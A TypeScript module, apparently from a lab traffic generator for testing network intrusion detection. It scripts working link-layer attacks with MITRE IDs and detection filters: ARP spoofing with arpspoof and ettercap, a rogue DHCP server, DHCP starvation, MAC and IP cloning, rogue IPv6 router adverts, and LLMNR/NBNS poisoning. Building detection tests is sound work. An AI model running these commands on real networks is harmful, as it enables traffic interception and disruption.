/** Being somebody else on the link: ARP, DHCP, IPv6 routers, names, and addresses. */
import { setTimeout as sleep } from 'node:timers/promises';
import { join } from 'node:path';
import { PYTHON } from '../agent.ts';
import type { Attack } from '../attack.ts';
import type { Day } from '../day.ts';
import { leaseCommand } from '../home.ts';
import { listening } from '../house.ts';

export const FRAMES = join(import.meta.dirname, '../send/frames.py');

/** The victim goes on with its life meanwhile. */
async function chatter(day: Day, host: string, seconds: number): Promise<void> {
  const until = Date.now() + seconds * 1000;
  while (Date.now() < until) {
    await day.house.lab.attempt(host, [
      'curl',
      '-sk',
      '-m',
      '2',
      '-o',
      '/dev/null',
      'https://www.example.com/bytes/4000',
    ]);
    await sleep(700);
  }
}

const arpspoof: Attack = {
  name: 'arpspoof',
  technique: 'T1557.002',
  rules: ['arp-spoof'],
  also: ['ip-conflict'],
  needs: ['arpspoof'],
  async run(day) {
    const { lab, router } = day.house;
    const attacker = day.host('intruder');
    const victim = day.host(day.choices.pick(['laptop', 'phone']));
    lab.run('intruder', ['sysctl', '-qw', 'net.ipv4.ip_forward=1', 'net.ipv4.conf.all.send_redirects=0']);
    await lab.attempt(victim.name, ['ping', '-c', '2', '-i', '0.3', '-W', '1', router.ip]);
    const both = day.choices.next() < 0.5 ? ['-r'] : [];
    const command = ['arpspoof', '-i', 'eth0', ...both, '-t', victim.ip, router.ip];
    const child = lab.start('intruder', command);
    await chatter(day, victim.name, 9);
    child.kill('SIGTERM');
    await sleep(500);
    await lab.stop(child);
    lab.run('intruder', ['sysctl', '-qw', 'net.ipv4.ip_forward=0']);
    return {
      actors: [attacker.mac, attacker.ip],
      targets: [victim.mac, victim.ip, router.mac, router.ip],
      filter: `arp and ether src ${attacker.mac} and arp[6:2] = 2`,
      tool: command.join(' '),
    };
  },
};

const ettercap: Attack = {
  name: 'ettercap',
  technique: 'T1557.002',
  rules: ['arp-spoof'],
  also: ['ip-conflict', 'host-scan'],
  needs: ['ettercap'],
  async run(day) {
    const { lab, router } = day.house;
    const attacker = day.host('intruder');
    const victim = day.host(day.choices.pick(['laptop', 'nas']));
    await lab.attempt(victim.name, ['ping', '-c', '2', '-i', '0.3', '-W', '1', router.ip]);
    const command = [
      'ettercap',
      '-T',
      '-q',
      '-i',
      'eth0',
      '-M',
      'arp:remote',
      `/${victim.ip}//`,
      `/${router.ip}//`,
    ];
    const child = lab.talk('intruder', command);
    child.stdout.resume();
    await chatter(day, victim.name, 12);
    child.stdin.write('q');
    await sleep(1500);
    await lab.stop(child);
    return {
      actors: [attacker.mac, attacker.ip],
      targets: [victim.mac, victim.ip, router.mac, router.ip],
      filter: `arp and ether src ${attacker.mac}`,
      tool: command.join(' '),
    };
  },
};

const rogueDhcp: Attack = {
  name: 'rogue-dhcp',
  technique: 'T1557.003',
  rules: ['rogue-dhcp'],
  also: ['arp-spoof', 'ip-conflict'],
  needs: ['dnsmasq'],
  last: true,
  async run(day) {
    const { lab, net } = day.house;
    const attacker = day.host('intruder');
    const server = lab.start('intruder', [
      ...[
        'dnsmasq',
        '--keep-in-foreground',
        '--conf-file=/dev/null',
        '--port=0',
        '--interface=eth0',
        '--bind-interfaces',
      ],
      ...[`--dhcp-range=${net}.200,${net}.220,1h`, `--dhcp-option=option:router,${attacker.ip}`],
      ...[
        '--dhcp-authoritative',
        '--no-ping',
        `--dhcp-leasefile=${lab.file('rogue-leases', '')}`,
        '--user=root',
      ],
    ]);
    await listening(lab, 'intruder', 67);
    const victims = [day.host('phone'), day.host('laptop')];
    for (const { name } of victims) await lab.attempt(name, leaseCommand(lab, name));
    await sleep(500);
    await lab.stop(server);
    return {
      actors: [attacker.mac, attacker.ip],
      targets: victims.map(({ mac }) => mac),
      filter: `udp and src port 67 and ether src ${attacker.mac}`,
      tool: `dnsmasq on ${attacker.ip} that hands out itself as the router`,
    };
  },
};

const starvation: Attack = {
  name: 'dhcp-starvation',
  technique: 'T1499',
  rules: ['dhcp-starvation'],
  also: ['new-device', 'mac-flood'],
  last: true,
  async run(day) {
    const count = day.choices.int(120, 300);
    await day.house.lab.attempt('intruder', [PYTHON, FRAMES, 'starve', String(count), '0.02'], 25_000);
    const { mac, ip } = day.host('intruder');
    return {
      // Each question comes from an address of its own: who it is cannot be seen.
      actors: [mac, ip, '*'],
      targets: [day.house.router.mac],
      filter: 'udp and src port 68 and src host 0.0.0.0',
      tool: `${count} DHCPDISCOVER from made-up clients, 50/s (send/frames.py, as dhcpig sends)`,
    };
  },
};

const macClone: Attack = {
  name: 'mac-clone',
  technique: 'T1036',
  rules: ['mac-clone'],
  also: ['ip-conflict', 'arp-spoof'],
  last: true,
  async run(day) {
    const { lab, router } = day.house;
    const victim = day.resident('nas');
    const { mac } = day.host('intruder');
    lab.run('intruder', ['ip', 'link', 'set', 'eth0', 'address', victim.mac]);
    lab.run('intruder', ['sysctl', '-qw', 'net.ipv4.ip_default_ttl=128']);
    lab.run('intruder', ['ip', 'addr', 'flush', 'dev', 'eth0']);
    lab.run('intruder', ['ip', 'addr', 'add', `${victim.ip}/24`, 'dev', 'eth0']);
    lab.run('intruder', ['ip', 'route', 'replace', 'default', 'via', router.ip]);
    for (let i = 0; i < 6; i++) {
      for (const host of [victim.name, 'intruder']) {
        await lab.attempt(host, ['ping', '-c', '2', '-i', '0.2', '-W', '1', router.ip]);
        await lab.attempt(host, [
          'curl',
          '-sk',
          '-m',
          '1',
          '-o',
          '/dev/null',
          'https://203.0.113.10/bytes/400',
        ]);
      }
    }
    return {
      actors: [victim.mac, victim.ip, mac],
      targets: [router.mac],
      filter: `ether src ${victim.mac} and ip and ip[8] > 64`,
      tool: `ip link set address ${victim.mac}; ping and curl in turn with the owner`,
    };
  },
};

const ipClone: Attack = {
  name: 'ip-clone',
  technique: 'T1557',
  rules: ['ip-conflict', 'arp-spoof'],
  needs: ['arping'],
  last: true,
  async run(day) {
    const { lab, router } = day.house;
    const attacker = day.host('intruder');
    const victim = day.resident();
    await lab.attempt(victim.name, ['ping', '-c', '2', '-i', '0.3', '-W', '1', router.ip]);
    lab.run('intruder', ['ip', 'addr', 'flush', 'dev', 'eth0']);
    lab.run('intruder', ['ip', 'addr', 'add', `${victim.ip}/24`, 'dev', 'eth0']);
    for (let i = 0; i < 5; i++) {
      await lab.attempt('intruder', ['arping', '-U', '-c', '1', '-I', 'eth0', victim.ip], 4000);
      await lab.attempt('intruder', ['ping', '-c', '2', '-i', '0.2', '-W', '1', router.ip]);
      await lab.attempt(victim.name, ['arping', '-U', '-c', '1', '-I', 'eth0', victim.ip], 4000);
      await lab.attempt(victim.name, ['ping', '-c', '2', '-i', '0.2', '-W', '1', router.ip]);
    }
    return {
      actors: [attacker.mac, attacker.ip, victim.mac, victim.ip],
      targets: [victim.mac, victim.ip],
      filter: `ether src ${attacker.mac} and (arp or src host ${victim.ip})`,
      tool: `ip addr add ${victim.ip}; arping -U in turn with the owner`,
    };
  },
};

const rogueRa: Attack = {
  name: 'rogue-ra',
  technique: 'T1557',
  rules: ['rogue-ra'],
  needs: ['atk6-fake_router6'],
  async run(day) {
    const attacker = day.host('intruder');
    const prefix = `2001:db8:${day.choices.hex(2)}::/64`;
    const command = ['timeout', '9', 'atk6-fake_router6', 'eth0', prefix];
    await day.house.lab.attempt('intruder', command, 15_000);
    return {
      actors: [attacker.mac],
      targets: [day.house.router.mac],
      filter: `icmp6 and ether src ${attacker.mac} and ip6[40] = 134`,
      tool: command.join(' '),
    };
  },
};

/** A Windows host that looks for names which do not exist; somebody says that they do. */
function poisoning(kind: 'llmnr' | 'nbns'): Attack {
  return {
    name: `${kind}-poisoning`,
    technique: 'T1557.001',
    rules: ['name-poisoning'],
    async run(day) {
      const { lab, net } = day.house;
      const attacker = day.host('intruder');
      const victim = day.host('laptop');
      const seconds = 5;
      const done = lab.attempt('intruder', [PYTHON, FRAMES, 'poison', kind, String(seconds)], 15_000);
      await sleep(800);
      const names = day.choices.shuffled([
        'wpad',
        'fileserv',
        'pritner',
        'intranet2',
        'sharepiont',
        'dc01',
        'nass',
      ]);
      for (const name of names.slice(0, day.choices.int(4, 6))) {
        await victim.agent.do(kind === 'llmnr' ? llmnr(name) : nbns(name, `${net}.255`));
        await sleep(300);
      }
      await done;
      return {
        actors: [attacker.mac, attacker.ip],
        targets: [victim.mac, victim.ip],
        filter: `ether src ${attacker.mac} and udp and src port ${kind === 'llmnr' ? 5355 : 137}`,
        tool: `send/frames.py poison ${kind}: answers every question, as Responder does`,
      };
    },
  };
}

function llmnr(name: string) {
  const question = Buffer.from(
    `\x12\x34\0\0\0\x01\0\0\0\0\0\0${String.fromCharCode(name.length)}${name}\0\0\x01\0\x01`,
    'latin1',
  );
  return { do: 'datagrams', host: '224.0.0.252', port: 5355, hex: question.toString('hex'), both: true };
}

function nbns(name: string, broadcast: string) {
  const padded = Buffer.from(name.toUpperCase().padEnd(15).concat('\0'), 'latin1');
  const encoded = [...padded].map((byte) => String.fromCharCode(65 + (byte >> 4), 65 + (byte & 15))).join('');
  const question = Buffer.from(`\x12\x34\x01\x10\0\x01\0\0\0\0\0\0\x20${encoded}\0\0\x20\0\x01`, 'latin1');
  return {
    do: 'datagrams',
    host: broadcast,
    port: 137,
    hex: question.toString('hex'),
    both: true,
    broadcast: true,
  };
}

export const SPOOFING: readonly Attack[] = [
  arpspoof,
  ettercap,
  rogueDhcp,
  starvation,
  macClone,
  ipClone,
  rogueRa,
  poisoning('llmnr'),
  poisoning('nbns'),
];
